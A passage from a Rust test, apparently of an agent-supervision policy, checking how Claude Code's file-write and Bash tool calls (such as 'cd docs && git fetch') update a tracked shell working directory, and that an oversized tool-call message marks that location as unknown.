    assert_eq!(shell_of(&t.out.effects), crate::policy::Shell::default());
    t.run_effects();
    // Claude's file tools take a relative path from where its Bash shell is: they are
    // decided with what moved it too.
    t.agent(&ask(
        json!(8),
        json!({"toolCallId": "w1", "kind": "edit", "_meta": {"claudeCode": {"toolName": "Write"}},
               "rawInput": {"file_path": "notes.txt", "content": "x"}}),
    ));
    assert_eq!(
        shell_of(&t.out.effects).moved_by,
        ["cd sub && ls", "git status", "cd docs && git fetch", "make"]
    );
    t.run_effects();
    // A tool call too long to read (a long `description`, twice in Claude's line): its
    // command is not known, so neither is where the shell is.
    let long = json!({"sessionUpdate": "tool_call_update", "toolCallId": "t5",
        "rawInput": {"command": "cd elsewhere", "description": "d".repeat(300 << 10)}});
    t.agent(&msg::notification(
        "session/update",
        json!({"sessionId": "s1", "update": long}),
    ));
    t.agent(&ask(json!(7), bash("t6", "ls")));
    assert!(shell_of(&t.out.effects).lost);
}
